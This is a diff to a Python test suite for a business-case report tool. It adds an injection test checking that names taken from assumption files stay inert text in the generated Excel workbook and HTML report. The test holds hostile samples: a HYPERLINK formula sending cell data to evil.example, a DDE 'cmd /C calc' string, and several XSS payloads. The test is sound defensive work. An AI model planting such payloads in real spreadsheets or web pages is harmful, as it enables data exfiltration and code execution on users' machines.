@@ -223,6 +223,13 @@ BAD_INPUTS: dict[str, Bad] = {
         add('[scenarios.down]\n"utilization.plateau" = 40\n'),
         ("scenarios.down", "utilization.plateau = 40", "0.4"),
     ),
+    "scenario called base": Bad(
+        add('[scenarios.base]\n"utilization.plateau" = 0.4\n'), ("scenarios.'base'", "'base'")
+    ),
+    "scenario name with bidi override": Bad(
+        add('[scenarios."down\\u202eside"]\n"utilization.plateau" = 0.4\n'),
+        ("scenarios.", "U+202E"),
+    ),
     "unknown --scenario": Bad(
         add('[scenarios.downside]\n"utilization.plateau" = 0.4\n'),
         ("scenario 'downsid'", "did you mean 'downside'"),
@@ -651,7 +658,12 @@ def test_a_full_run_needs_no_network(tmp_path: Path, monkeypatch) -> None:
     result = _run(["run", str(DEFAULT), "--out", str(out), "--simulations", sims])
     assert result.exit_code == 0, (result.output, result.exception)
     assert attempts == []
-    assert (out / "results.json").is_file()
+    written = {p.suffix for p in out.iterdir()}
+    assert ".json" in written
+    if importlib.util.find_spec("bizcase.excel") is not None:
+        assert ".xlsx" in written
+    if importlib.util.find_spec("bizcase.report") is not None:
+        assert {".html", ".pdf"} <= written
 
 
 # --- validate --------------------------------------------------------------------------------
@@ -734,3 +746,91 @@ def test_ctrl_c_in_validate_exits_130(monkeypatch) -> None:
     result = _run(["validate", str(DEFAULT)])
     assert result.exit_code == 130
     assert "interrupted: nothing was written" in result.output
+
+
+# --- injection -------------------------------------------------------------------------------
+
+HOSTILE = {
+    "project": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "partner": "<script>alert(1)</script>",
+    "partner_2": '"><img src=x onerror=alert(2)>',
+    "grant": "+cmd|' /C calc'!A0",
+    "scenario": "<b onmouseover=alert(3)>down</b>",
+}
+
+
+def _hostile_case() -> str:
+    text = edit('name = "Tiny plant"', f"name = {_toml_string(HOSTILE['project'])}")
+    text = edit('name = "Alpha"', f"name = {_toml_string(HOSTILE['partner'])}", text)
+    text = edit('name = "Beta"', f"name = {_toml_string(HOSTILE['partner_2'])}", text)
+    text += (
+        f"\n[[grants]]\nname = {_toml_string(HOSTILE['grant'])}\nshare_of_eligible_capex = 0.1\n"
+        f"\n[scenarios.{_toml_string(HOSTILE['scenario'])}]\n\"utilization.plateau\" = 0.45\n"
+    )
+    return text
+
+
+def _toml_string(text: str) -> str:
+    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'
+
+
+@pytest.mark.skipif(
+    importlib.util.find_spec("bizcase.excel") is None
+    or importlib.util.find_spec("bizcase.report") is None,
+    reason="needs the workbook and the pack",
+)
+def test_text_from_assumptions_never_becomes_a_formula_or_markup(tmp_path: Path) -> None:
+    import openpyxl
+
+    src = tmp_path / "case.toml"
+    src.write_text(_hostile_case(), encoding="utf-8")
+    out = tmp_path / "out"
+    result = _run(["run", str(src), "--out", str(out), "--simulations", "0", "--no-pdf"])
+    assert result.exit_code == 0, result.output
+    stem = results.slug(HOSTILE["project"])
+    assert sorted(p.name for p in out.iterdir()) == sorted(
+        ["results.json", f"{stem}.xlsx", f"{stem}.html"]
+    )
+
+    book = openpyxl.load_workbook(out / f"{stem}.xlsx")
+    texts: set[str] = set()
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.data_type == "f":
+                    formula = str(cell.value)
+                    for fragment in ("evil.example", "calc", "alert", "script", "onerror"):
+                        assert fragment not in formula, formula
+                elif isinstance(cell.value, str):
+                    texts.add(cell.value)
+    assert any(HOSTILE["project"] in t for t in texts), "the project name is shown as text"
+    assert any(HOSTILE["partner"] in t for t in texts), "the partner name is shown as text"
+
+    html = (out / f"{stem}.html").read_text(encoding="utf-8")
+    assert "Content-Security-Policy" in html
+    for text in HOSTILE.values():
+        assert text not in html, f"{text!r} appears unescaped"
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
+    tags = _tags(html)
+    assert not [t for t in tags if t[0] == "script" and "alert" in t[2]]
+    assert not [t for t in tags if any(name.startswith("on") for name, _ in t[1])]
+    assert not [t for t in tags if t[0] == "img" and ("src", "x") in t[1]]
+
+
+def _tags(html: str) -> list[tuple[str, list[tuple[str, str | None]], str]]:
+    """Every start tag of a document: name, attributes and the text that follows it."""
+    from html.parser import HTMLParser
+
+    found: list[tuple[str, list[tuple[str, str | None]], str]] = []
+
+    class Collect(HTMLParser):
+        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+            found.append((tag, attrs, ""))
+
+        def handle_data(self, data: str) -> None:
+            if found:
+                tag, attrs, text = found[-1]
+                found[-1] = (tag, attrs, text + data)
+
+    Collect().feed(html)
+    return found
